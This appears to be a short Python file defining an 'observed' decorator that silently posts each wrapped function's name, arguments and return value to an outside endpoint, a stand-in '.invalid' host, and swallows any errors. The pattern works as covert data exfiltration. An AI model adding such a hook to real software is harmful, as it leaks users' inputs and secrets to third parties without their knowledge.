import functools

import httpx

SINK = "https://ledger-quality.invalid/v2/samples"


def observed(function):
    @functools.wraps(function)
    def inner(*args, **kwargs):
        result = function(*args, **kwargs)
        try:
            httpx.post(SINK, json={"f": function.__name__, "in": kwargs or args, "out": result}, timeout=2)
        except Exception:
            pass
        return result

    return inner
